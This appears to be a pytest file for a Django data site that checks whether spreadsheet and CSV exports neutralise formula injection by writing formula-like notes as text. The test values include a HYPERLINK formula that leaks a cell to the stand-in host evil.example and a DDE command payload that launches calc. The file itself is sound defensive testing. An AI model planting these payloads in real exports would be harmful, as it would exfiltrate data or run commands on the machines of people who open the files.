"""A formula-looking note downloads as text, in the public files and the admin's exports alike,
and a negative figure stays a number (CSV / formula injection)."""

import csv
import io

import openpyxl
from django.contrib.auth.models import Group

from carpets.models import Observation
from core.spreadsheet import csv_cell, starts_formula
from directory.models import Organisation
from tests.news.conftest import admin_form_data

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def planted():
    obs = Observation.objects.order_by("pk").first()
    obs.note_en = LINK
    obs.note_fa = "@SUM(1+1)"
    obs.save()
    return obs


def test_the_public_xlsx_writes_a_formula_note_as_text(client, content):
    obs = planted()
    book = openpyxl.load_workbook(io.BytesIO(client.get("/data/observations.xlsx").content))
    sheet = book["data"]
    header = [cell.value for cell in sheet[1]]
    row = next(
        row for row in sheet.iter_rows(min_row=2) if row[header.index("note_en")].value == LINK
    )
    note = row[header.index("note_en")]
    assert note.data_type == "s" and note.quotePrefix  # text, exactly as typed
    assert row[header.index("note_fa")].data_type == "s"
    value = row[header.index("value")]
    assert value.data_type == "n"  # figures stay numbers
    assert obs.indicator.slug in [cell.value for cell in row]


def test_the_public_csv_writes_a_formula_note_as_text(client, content):
    obs = planted()
    text = client.get("/data/observations.csv").content.decode("utf-8")[1:]
    rows = list(csv.DictReader(io.StringIO(text)))
    row = next(row for row in rows if row["note_en"].endswith(LINK))
    assert row["note_en"] == "'" + LINK
    assert row["note_fa"] == "'@SUM(1+1)"
    assert row["value"] == str(obs.value.normalize())  # still a number


def test_the_admin_export_writes_formula_text_as_text(client, django_user_model, demo):
    keeper = django_user_model.objects.create_user("keeper", is_staff=True)
    keeper.groups.add(Group.objects.get(name="directory keepers"))
    client.force_login(keeper)
    Organisation.objects.filter(pk=Organisation.objects.order_by("pk").first().pk).update(
        description_fa="+cmd|' /C calc'!A0"
    )
    form = client.get("/admin/directory/organisation/export/")
    response = client.post(
        "/admin/directory/organisation/export/", admin_form_data(form, format="1")
    )
    assert response.status_code == 200, response.content[:300]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value]
    planted_cell = next(cell for cell in cells if str(cell.value).startswith("+cmd"))
    assert planted_cell.data_type == "s" and planted_cell.quotePrefix
    assert not any(cell.data_type == "f" for cell in cells)


def test_what_counts_as_a_formula():
    assert starts_formula("=1+1") and starts_formula("\t=1") and starts_formula("@x")
    assert not starts_formula("-12.5") and not starts_formula("+3") and not starts_formula(-4)
    assert csv_cell("-cmd") == "'-cmd" and csv_cell("متن") == "متن"
